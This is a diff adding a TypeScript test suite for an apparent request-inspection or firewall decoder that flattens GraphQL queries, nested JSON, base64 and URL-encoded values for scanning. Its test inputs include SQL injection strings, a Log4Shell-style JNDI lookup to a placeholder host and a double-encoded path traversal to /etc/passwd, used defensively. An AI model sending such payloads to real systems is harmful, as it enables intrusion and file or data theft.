@@ -1,0 +1,168 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { RE2JS } from 're2js';
+import { parseJsonBody } from '../body/json.ts';
+import {
+  DECODE_LIMIT_ARG,
+  DEFAULT_EXPAND_OPTIONS,
+  expandApiArgs,
+  fieldExclusionRegexes,
+  graphqlGetQuery,
+} from './expand.ts';
+
+const flat = (body: unknown): [string, string][] => {
+  const r = parseJsonBody(Buffer.from(JSON.stringify(body), 'utf8').toString('latin1'), {
+    expand: (args) => expandApiArgs(args),
+  });
+  assert.ok(r.ok);
+  return r.args.map(([k, v]) => [k, v]);
+};
+const names = (args: readonly (readonly [string, string])[]): string[] => args.map(([k]) => k);
+const value = (args: readonly (readonly [string, string])[], name: string): string | undefined =>
+  args.find(([k]) => k === name)?.[1];
+
+describe('expandApiArgs: GraphQL', () => {
+  test('the query document is replaced by its string literals and comments; variables stay separate', () => {
+    const args = flat({
+      query:
+        '# pick fields\nquery Q($id: ID!) { user(id: $id, note: "select committee") { bio(f: """x\ny""") } }',
+      variables: { id: "1' OR '1'='1" },
+      operationName: 'Q',
+    });
+    assert.deepEqual(names(args), [
+      'json.query.string.0',
+      'json.query.string.1',
+      'json.query.comment.0',
+      'json.variables.id',
+      'json.operationName',
+    ]);
+    assert.equal(value(args, 'json.query.string.0'), 'select committee');
+    assert.equal(value(args, 'json.query.string.1'), 'x\ny');
+    assert.equal(value(args, 'json.query.comment.0'), ' pick fields');
+    assert.equal(value(args, 'json.variables.id'), "1' OR '1'='1");
+  });
+
+  test('batched requests are expanded per element', () => {
+    const args = flat([{ query: '{ a(x: "one") }' }, { query: '{ b(y: "two") }' }]);
+    assert.equal(value(args, 'json.0.query.string.0'), 'one');
+    assert.equal(value(args, 'json.1.query.string.0'), 'two');
+  });
+
+  test('a query that is not GraphQL, or an object that is not a GraphQL request, stays one argument', () => {
+    const notGraphql = "1' UNION SELECT password FROM users--";
+    assert.equal(value(flat({ query: notGraphql }), 'json.query'), notGraphql);
+    // A REST body with a `query` member next to other members is not a GraphQL request.
+    assert.equal(value(flat({ query: '{ a }', page: 2 }), 'json.query'), '{ a }');
+    // Type-system documents are not requests: kept whole.
+    assert.equal(
+      value(flat({ query: 'union select = password | users' }), 'json.query'),
+      'union select = password | users',
+    );
+  });
+
+  test('non-ASCII literals come out as UTF-8 bytes', () => {
+    const args = flat({ query: '{ a(x: "Zürich") }' });
+    assert.equal(value(args, 'json.query.string.0'), Buffer.from('Zürich', 'utf8').toString('latin1'));
+  });
+});
+
+describe('expandApiArgs: nested encodings', () => {
+  test('JSON inside a string is flattened under <name>.decoded-json', () => {
+    const args = flat({ payload: JSON.stringify({ search: "' OR 1=1--", n: [1, { __proto__x: 2 }] }) });
+    assert.equal(value(args, 'json.payload.decoded-json.search'), "' OR 1=1--");
+    assert.equal(value(args, 'json.payload.decoded-json.n.1.__proto__x'), '2');
+  });
+
+  test('base64 of printable text is decoded, recursively (base64 of JSON)', () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
+    const inner = JSON.stringify({ q: '${jndi:ldap://x.example/a}' });
+    const args = flat({ data: Buffer.from(inner).toString('base64') });
+    assert.equal(value(args, 'json.data.decoded-base64'), inner);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
+    assert.equal(value(args, 'json.data.decoded-base64.decoded-json.q'), '${jndi:ldap://x.example/a}');
+  });
+
+  test('base64 of binary data and ordinary words are not decoded', () => {
+    const binary = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
+    const args = flat({ avatar: binary, word: 'internationalization' });
+    assert.deepEqual(names(args), ['json.avatar', 'json.word']);
+  });
+
+  test('percent-encoding, double percent-encoding', () => {
+    const args = flat({ next: encodeURIComponent(encodeURIComponent('../../etc/passwd')) });
+    assert.equal(value(args, 'json.next.decoded-url'), '..%2F..%2Fetc%2Fpasswd');
+    assert.equal(value(args, 'json.next.decoded-url.decoded-url'), '../../etc/passwd');
+  });
+
+  test('depth is bounded', () => {
+    let v = 'payload-text';
+    for (let i = 0; i < 6; i++) v = Buffer.from(v).toString('base64');
+    const r = expandApiArgs([['json.x', v]], { ...DEFAULT_EXPAND_OPTIONS, maxDepth: 2 });
+    assert.equal(r.length, 3);
+    assert.equal(expandApiArgs([['json.x', v]], { ...DEFAULT_EXPAND_OPTIONS, maxDepth: 0 }).length, 1);
+  });
+
+  test('an exhausted budget adds the decode-limit argument', () => {
+    const enc = Buffer.from('a harmless sentence').toString('base64');
+    const args: [string, string][] = Array.from({ length: 20 }, (_, i) => [`json.v${i}`, enc]);
+    const r = expandApiArgs(args, { ...DEFAULT_EXPAND_OPTIONS, maxExtraArgs: 5 });
+    assert.equal(r.filter(([k]) => k.endsWith('.decoded-base64')).length, 5);
+    assert.deepEqual(r.at(-1), [DECODE_LIMIT_ARG, 'args']);
+    const rb = expandApiArgs(args, { ...DEFAULT_EXPAND_OPTIONS, maxDecodedBytes: 100 });
+    assert.deepEqual(rb.at(-1), [DECODE_LIMIT_ARG, 'bytes']);
+  });
+});
+
+describe('fieldExclusionRegexes', () => {
+  const matches = (paths: string[], name: string): boolean =>
+    fieldExclusionRegexes(paths).some((re) => RE2JS.compile(re, RE2JS.CASE_INSENSITIVE).matcher(name).find());
+
+  test('dotted paths, body. prefix, [] and *, children and decoded derivations', () => {
+    assert.ok(matches(['body.description'], 'json.description'));
+    assert.ok(matches(['description'], 'json.description.decoded-base64'));
+    assert.ok(!matches(['body.description'], 'json.descriptionx'));
+    assert.ok(matches(['comments[].text'], 'json.comments.3.text'));
+    assert.ok(!matches(['comments[].text'], 'json.comments.text'));
+    assert.ok(matches(['data.*.html'], 'json.data.attributes.html'));
+    assert.ok(matches(['variables.input.body'], 'json.variables.input.body'));
+    for (const re of fieldExclusionRegexes(['a[].b', '*.c', 'x$y'])) assert.doesNotMatch(re, /\|/);
+  });
+
+  test('paths outside the grammar are refused', () => {
+    assert.throws(() => fieldExclusionRegexes(['a..b']), TypeError);
+    assert.throws(() => fieldExclusionRegexes(['a/b']), TypeError);
+  });
+});
+
+describe('graphqlGetQuery', () => {
+  test('query literals and flattened variables replace the GraphQL parameters', () => {
+    const q = graphqlGetQuery([
+      ['query', 'query S($t: String) { search(q: $t, note: "a & b") { id } } # hi'],
+      ['variables', '{"t":"union of workers","n":[1]}'],
+      ['operationName', 'S'],
+    ]);
+    assert.equal(
+      q,
+      'query.string.0=a%20%26%20b&query.comment.0=%20hi&variables.t=union%20of%20workers&variables.n.0=1&operationName=S',
+    );
+  });
+
+  test('not a GraphQL request: null (inspected unchanged)', () => {
+    assert.equal(graphqlGetQuery([['q', 'x']]), null);
+    assert.equal(
+      graphqlGetQuery([
+        ['query', '{ a }'],
+        ['page', '2'],
+      ]),
+      null,
+    );
+    assert.equal(graphqlGetQuery([['query', "1' OR '1'='1"]]), null);
+    assert.equal(
+      graphqlGetQuery([
+        ['query', '{ a }'],
+        ['query', '{ b }'],
+      ]),
+      null,
+    );
+  });
+});
